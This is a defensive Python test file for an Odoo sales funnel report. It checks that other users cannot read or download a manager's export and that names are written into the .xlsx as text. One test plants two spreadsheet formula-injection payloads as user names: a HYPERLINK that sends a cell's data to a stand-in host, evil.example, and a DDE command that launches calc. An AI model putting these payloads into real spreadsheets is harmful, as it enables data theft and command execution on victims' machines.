"""Probes of the report surface by a careless or hostile caller: the funnel export of another
user through the web routes, formulas hidden in names, a bad breakdown."""

import io

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, tagged

from odoo.addons.sales_followup.compat import USER_GROUPS

from .common import FunnelCommon


@tagged("post_install", "-at_install")
class TestHostileReports(FunnelCommon):
    def test_f1_funnel_dialogs_are_their_creators_only(self):
        wizard = self._wizard()
        Wizard = self.env["sales.followup.funnel.wizard"].with_user(self.rep_a)
        self.assertFalse(Wizard.search([("id", "=", wizard.id)]))
        self.assertFalse(
            Wizard.search_read([], ["date_from"]), "a rep lists none of the manager's dialogs"
        )
        with self.assertRaises(AccessError):
            Wizard.browse(wizard.id).read(["date_from"])
        with self.assertRaises(AccessError):
            Wizard.browse(wizard.id).write({"date_from": "2020-01-01"})
        self.assertNotIn("xlsx_file", wizard._fields, "no export is stored")

    def test_f5_texts_in_the_xlsx_are_never_formulas(self):
        self.rep_b.name = '=HYPERLINK("http://evil.example/?x="&B2,"Wang")'
        self.web.name = "=cmd|' /C calc'!A0"
        wizard = self._wizard()
        content, _filename = wizard._xlsx_export()
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith("=")
        ]
        self.assertTrue(cells, "the names are in the export")
        for cell in cells:
            self.assertEqual(cell.data_type, "s", f"{cell.coordinate}: text, not a formula")

    def test_f9_bad_breakdown_is_named(self):
        with self.assertRaisesRegex(UserError, "Break Down By: 'lead_id'"):
            self.env["sales.followup.funnel.report"].get_funnel_data([], "lead_id")


@tagged("post_install", "-at_install")
class TestHostileReportRoutes(HttpCase):
    """The same, through the routes a browser (or a script with a session cookie) calls."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = cls.env["res.users"].create(
            {
                "name": "Route Manager",
                "login": "fr_route_manager",
                "password": "fr_route_manager",
                USER_GROUPS: [(6, 0, [cls.env.ref("sales_team.group_sale_manager").id])],
            }
        )
        cls.rep = cls.env["res.users"].create(
            {
                "name": "Route Rep",
                "login": "fr_route_rep",
                "password": "fr_route_rep",
                USER_GROUPS: [(6, 0, [cls.env.ref("sales_team.group_sale_salesman").id])],
            }
        )
        cls.wizard = (
            cls.env["sales.followup.funnel.wizard"]
            .with_user(cls.manager)
            .create({"date_from": "2026-01-01", "date_to": "2026-03-31"})
        )

    def test_f1_only_the_creator_downloads_the_export(self):
        url = f"/sales_followup_reports/funnel/{self.wizard.id}/xlsx"
        self.authenticate("fr_route_rep", "fr_route_rep")
        response = self.url_open(url)
        self.assertIn(response.status_code, (403, 404), "another user gets nothing")
        self.assertNotIn(b"PK\x03\x04", response.content[:4])
        # The old way to the stored file leads nowhere: nothing is stored.
        response = self.url_open(
            f"/web/content/sales.followup.funnel.wizard/{self.wizard.id}/xlsx_file/x.xlsx"
        )
        self.assertNotEqual(response.status_code, 200)
        self.authenticate("fr_route_manager", "fr_route_manager")
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.content.startswith(b"PK\x03\x04"), "an .xlsx workbook")
        self.assertEqual(response.headers.get("Cache-Control"), "no-store")
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        self.assertIn("KPIs", book.sheetnames)
